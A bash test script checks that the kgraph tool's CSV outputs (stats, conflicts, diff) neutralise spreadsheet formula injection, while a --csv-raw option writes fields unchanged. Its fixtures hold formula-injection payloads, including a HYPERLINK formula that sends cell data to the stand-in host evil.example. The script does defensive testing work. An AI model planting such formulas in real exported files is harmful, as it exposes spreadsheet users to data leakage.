#!/bin/bash
# csv_formula.sh: CSV outputs neutralise spreadsheet formulas (issue 14 item 10): stats,
# conflicts and diff -T csv write a field starting with = + - @ tab or CR (and not a plain
# number) quoted with a single quote first; --csv-raw writes it as it is; numbers such as
# -0.5 stay numbers. $1 = kgraph binary, $2 = source dir. Exit 0 when every check passed.
set -u
KGRAPH=${1:?usage: csv_formula.sh KGRAPH SOURCE_DIR}
SRC=${2:?usage: csv_formula.sh KGRAPH SOURCE_DIR}

failures=0
fail() { echo "FAIL: $*"; failures=$((failures + 1)); }
ok() { echo "ok: $*"; }

T=$(mktemp -d "${TMPDIR:-/tmp}/kgraph-csvformula-XXXXXX") || exit 1
trap 'rm -rf -- "$T"' EXIT

mkdir -p "$T/a" "$T/b"
cat >"$T/a/entities.csv" <<'EOF2'
id,label,type
e1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",person
e2,@SUM(A1:A9),+cmd
e3,-2+3,org
e4,Plain,-0.5
EOF2
cat >"$T/a/relations.csv" <<'EOF2'
source,relation,target,quote,doc,polarity,weight
e1,supports,e2,=1+1,d1,positive,-0.5
e2,opposes,e1,@evil,d2,negative,1
EOF2
cp "$T/a/entities.csv" "$T/b/entities.csv"
cat >"$T/b/relations.csv" <<'EOF2'
source,relation,target,quote,doc,polarity,weight
e1,supports,e2,=2+2,d1,positive,-1.5
e2,opposes,e1,@evil,d2,negative,1
EOF2

# check_fields FILE WHAT: no field of FILE (parsed as CSV) starts with a formula character
# unless it is a plain number
check_fields() {
    python3 - "$1" <<'PY'
import csv, re, sys
bad = [f for row in csv.reader(open(sys.argv[1], encoding="utf-8")) for f in row
       if f[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", f)]
print("\n".join(bad[:5]))
sys.exit(1 if bad else 0)
PY
}

"$KGRAPH" stats "$T/a" -q -T csv -o "$T/stats.csv" 2>"$T/err" || fail "stats: $(cat "$T/err")"
out=$(check_fields "$T/stats.csv") && grep -qF '"'"'"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' "$T/stats.csv" &&
    grep -qF '"'"'"'@SUM(A1:A9)",' "$T/stats.csv" && grep -qF ',"'"'"'+cmd",' "$T/stats.csv" &&
    grep -qF ',"'"'"'-2+3",' "$T/stats.csv" && grep -q '^e4,Plain,-0.5,' "$T/stats.csv" &&
    ok "stats -T csv: formulas neutralised with a quote, -0.5 kept a number" ||
    fail "stats -T csv: $out $(cat "$T/stats.csv")"
"$KGRAPH" stats "$T/a" -q -T csv --csv-raw -o "$T/raw.csv" 2>"$T/err" || fail "stats --csv-raw: $(cat "$T/err")"
grep -q '^e2,@SUM(A1:A9),+cmd,' "$T/raw.csv" && ok "stats --csv-raw writes fields as they are" ||
    fail "stats --csv-raw: $(cat "$T/raw.csv")"

"$KGRAPH" conflicts "$T/a" -q -T csv -o "$T/conflicts.csv" 2>"$T/err"
[ $? -le 1 ] || fail "conflicts: $(cat "$T/err")"
out=$(check_fields "$T/conflicts.csv") && grep -qF '"'"'"'=1+1"' "$T/conflicts.csv" &&
    grep -qF '"'"'"'@evil"' "$T/conflicts.csv" &&
    ok "conflicts -T csv: formulas neutralised" || fail "conflicts -T csv: $out $(cat "$T/conflicts.csv")"
"$KGRAPH" conflicts "$T/a" -q -T csv --csv-raw -o "$T/craw.csv" 2>"$T/err"
grep -q ',=1+1,' "$T/craw.csv" && ok "conflicts --csv-raw writes fields as they are" ||
    fail "conflicts --csv-raw: $(cat "$T/craw.csv")"

"$KGRAPH" diff "$T/a" "$T/b" -q -T csv -o "$T/diff.csv" 2>"$T/err"
[ $? -eq 1 ] || fail "diff: $(cat "$T/err")"
out=$(check_fields "$T/diff.csv") && grep -qF '"'"'"'=1+1","'"'"'=2+2"' "$T/diff.csv" &&
    grep -q ',-0.5,-1.5$' "$T/diff.csv" &&
    ok "diff -T csv: formulas neutralised, numbers kept" || fail "diff -T csv: $out $(cat "$T/diff.csv")"
"$KGRAPH" diff "$T/a" "$T/b" -q -T csv --csv-raw -o "$T/draw.csv" 2>"$T/err"
grep -q ',=1+1,=2+2$' "$T/draw.csv" && ok "diff --csv-raw writes fields as they are" ||
    fail "diff --csv-raw: $(cat "$T/draw.csv")"

if [ "$failures" -ne 0 ]; then
    echo "csv_formula: $failures check(s) failed"
    exit 1
fi
echo "csv_formula: all checks passed"
exit 0
